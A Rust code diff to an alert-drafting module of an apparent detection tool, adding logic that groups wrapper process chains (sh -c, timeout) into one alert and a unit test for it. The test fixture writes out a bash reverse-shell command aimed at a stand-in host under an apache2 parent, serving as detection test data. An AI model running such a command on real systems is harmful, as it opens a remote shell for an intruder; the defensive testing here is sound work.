@@ -100,7 +100,11 @@ pub fn draft(
     }
     // Without a process (a log-on, a loss) repeats are told apart by account and address.
     let fold = match &key {
-        Some(key) => key.clone(),
+        // A command that is handed on (`sh -c`, `timeout`, `sudo`) is one deed, however many processes it takes.
+        Some(key) => lineage
+            .iter()
+            .find(|chain| chain.first().is_some_and(|p| p.key == *key))
+            .map_or_else(|| key.clone(), |chain| first_of_command(chain).to_owned()),
         None => format!(
             "{}/{}",
             user.as_deref().unwrap_or(""),
@@ -154,6 +158,30 @@ pub fn draft(
     Some(AlertDraft { fold_key: format!("{rule_id}/{device}/{fold}"), alert, lineage, rows: matched })
 }
 
+/// Processes that may hand one command on to each other.
+const WRAPPERS_MAX: usize = 4;
+
+/// Key of the farthest ancestor whose command line still holds the one of its child, quotes aside.
+fn first_of_command(chain: &[ProcessFact]) -> &str {
+    let plain = |p: &ProcessFact| -> Option<String> {
+        let text: String = p.command_line.as_ref()?.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect();
+        Some(text.split_whitespace().collect::<Vec<_>>().join(" ")).filter(|t| t.len() > 2)
+    };
+    let holds = |outer: &str, inner: &str| {
+        let starts_word = |at: usize| outer[..at].chars().next_back().is_some_and(|c| " ;&|($`".contains(c));
+        outer.match_indices(inner).any(|(at, _)| starts_word(at))
+    };
+    let mut first = chain.first().map_or("", |p| p.key.as_str());
+    for pair in chain.windows(2).take(WRAPPERS_MAX) {
+        let (Some(inner), Some(outer)) = (plain(&pair[0]), plain(&pair[1])) else { break };
+        if !holds(&outer, &inner) {
+            break;
+        }
+        first = &pair[1].key;
+    }
+    first
+}
+
 fn subject_of(row: &HitRow) -> Option<ProcessFact> {
     if row.table == "DeviceProcessEvents" { subject(&row.row) } else { None }
 }
@@ -163,6 +191,27 @@ mod tests {
     use super::*;
     use garrison_sigma::{Options, RuleSet};
     use serde_json::json;
+
+    #[test]
+    fn a_command_that_is_handed_on_is_one_deed() {
+        let fact = |key: &str, command: &str| ProcessFact {
+            key: key.into(),
+            command_line: Some(command.into()),
+            ..Default::default()
+        };
+        let chain = [
+            fact("d", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+            fact("c", "timeout 5 bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+            fact("b", "sh -c timeout 5 bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' </dev/null"),
+            fact("a", "/usr/sbin/apache2 -k start"),
+        ];
+        assert_eq!(first_of_command(&chain), "b");
+        assert_eq!(first_of_command(&chain[3..]), "a");
+        assert_eq!(first_of_command(&[fact("b", "sh"), fact("a", "bash")]), "b", "only whole words, and no short ones");
+        assert_eq!(first_of_command(&[fact("b", "id"), fact("a", "sh -c id")]), "b");
+        assert_eq!(first_of_command(&[ProcessFact::default()]), "");
+        assert_eq!(first_of_command(&[]), "");
+    }
 
     #[test]
     fn a_draft_carries_rule_row_evidence_and_chain() {
